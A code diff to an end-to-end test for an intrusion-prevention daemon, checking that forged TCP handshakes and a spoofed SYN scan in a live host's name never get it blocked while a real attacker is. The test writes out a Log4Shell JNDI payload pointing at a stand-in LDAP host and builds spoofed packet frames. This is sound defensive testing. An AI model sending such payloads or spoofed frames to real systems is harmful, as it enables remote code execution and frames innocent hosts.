@@ -75,7 +75,7 @@ let existingServer: ReturnType<Host['spawn']> | undefined;
 let existingClient: Promise<ClientResult> | undefined;
 
 before(async () => {
-  net = await createTestNet(['attacker', 'protected', 'other', 'trusted']);
+  net = await createTestNet(['attacker', 'protected', 'other', 'trusted', 'victim']);
   attacker = net.host('attacker');
   prot = net.host('protected');
   other = net.host('other');
@@ -165,6 +165,55 @@ test('Log4Shell against a real HTTP server blocks the attacker within 100 ms and
   assert.equal(un.code, 0, un.stderr);
   const back = await tcp(attacker, { host: prot.ip4, port: 8080, payload: 'GET / HTTP/1.1\r\n\r\n' });
   assert.equal(back.connected, true, 'access restored after unblock');
+});
+
+/** bulwark_packets_dropped_total for one reason, from the daemon's /metrics. */
+async function dropped(reason: string): Promise<number> {
+  const m = await daemon.http('/metrics');
+  const v = new RegExp(`bulwark_packets_dropped_total\\{reason="${reason}"\\} (\\d+)`).exec(m.body);
+  return Number(v?.[1] ?? 0);
+}
+
+test('forged handshakes in a live host\'s name never block it (forged SYN/ACK inbound, good or bad checksums); a real attacker still is', async () => {
+  await daemon.cli(['unblock', '--all']);
+  const victim = net.host('victim'); // V: up, sends nothing of this
+  const hMac = (await prot.exec('cat', ['/sys/class/net/eth0/address'])).stdout.trim();
+  const spoofedBefore = await dropped('spoofed_source');
+  const forge = async (frames: Record<string, unknown>[]): Promise<void> => {
+    const tool = join(ROOT, 'test', 'e2e', 'tools', 'forge-frames.ts');
+    const r = await attacker.exec(process.execPath, ['--import', 'tsx', tool, JSON.stringify({ frames, gapMs: 2 })], { timeoutMs: 30_000, env: { ...process.env, NODE_PATH: join(ROOT, 'node_modules') } });
+    assert.equal(r.code, 0, r.stderr);
+    assert.equal((JSON.parse(r.stdout.trim()) as { sent: number }).sent, frames.length);
+  };
+  const v2h = { srcIp: victim.ip4, dstIp: prot.ip4, dstPort: 8080, dstMac: hMac };
+  const h2v = { srcIp: prot.ip4, dstIp: victim.ip4, srcPort: 8080, dstMac: hMac };
+  const log4shell = 'GET / HTTP/1.1\r\nHost: protected\r\nUser-Agent: ${jndi:ldap://203.0.113.66/a}\r\n\r\n';
+  // SYN V→H, the forged SYN/ACK H→V (arriving inbound at H), the ACK of it, the exploit. Once with
+  // bad checksums everywhere (H's kernel drops all of it and never answers), once valid.
+  for (const [sport, bad] of [[41000, true], [41001, false]] as const) {
+    await forge([
+      { ...v2h, srcPort: sport, seq: 1000, flags: 0x02, badChecksum: bad },
+      { ...h2v, dstPort: sport, seq: 9000, ack: 1001, flags: 0x12, badChecksum: bad },
+      { ...v2h, srcPort: sport, seq: 1001, ack: 9001, flags: 0x10, badChecksum: bad },
+      { ...v2h, srcPort: sport, seq: 1001, ack: 9001, flags: 0x18, payload: log4shell, badChecksum: bad },
+    ]);
+  }
+  // A SYN scan in V's name: the scan detector must not take V for a peer that completed a handshake.
+  await forge(Array.from({ length: 25 }, (_, i) => ({ ...v2h, srcPort: 42000 + i, dstPort: 1000 + i, seq: 5000, flags: 0x02 })));
+  // A real attack (real handshake) from the attacker is blocked: the pipeline works, and it ran
+  // after every forged frame above (one capture, in order).
+  await tcp(attacker, { host: prot.ip4, port: 8080, payload: log4shell });
+  const real = await waitFor('the real attacker blocked', () => alerts(daemon).find((a) => a.src_ip === attacker.ip4 && a.alert.action === 'blocked'));
+  assert.ok(real.bulwark.blocked_until !== undefined);
+  const set = await blockedSet(prot);
+  assert.ok(set.includes(attacker.ip4), 'attacker in the kernel set');
+  assert.ok(!set.includes(victim.ip4), `V must not be blocked (kernel set: ${JSON.stringify(set)})`);
+  const aboutV = alerts(daemon).filter((a) => a.src_ip === victim.ip4);
+  assert.ok(!aboutV.some((a) => a.alert.action === 'blocked' || a.bulwark.blocked_until !== undefined), `an event blocked V: ${JSON.stringify(aboutV)}`);
+  const scan = await waitFor('port scan alert in V\'s name', () => alerts(daemon).find((a) => a.src_ip === victim.ip4 && a.bulwark.detector === 'portscan'));
+  assert.match(scan.bulwark.block_skipped ?? '', /^spoofable evidence/, 'V is not a verified peer');
+  assert.ok((await dropped('spoofed_source')) >= spoofedBefore + 2, 'both forged SYN/ACKs counted as spoofed');
+  await daemon.cli(['unblock', '--all']);
 });
 
 test("a blocked attacker's existing connections are severed", async () => {
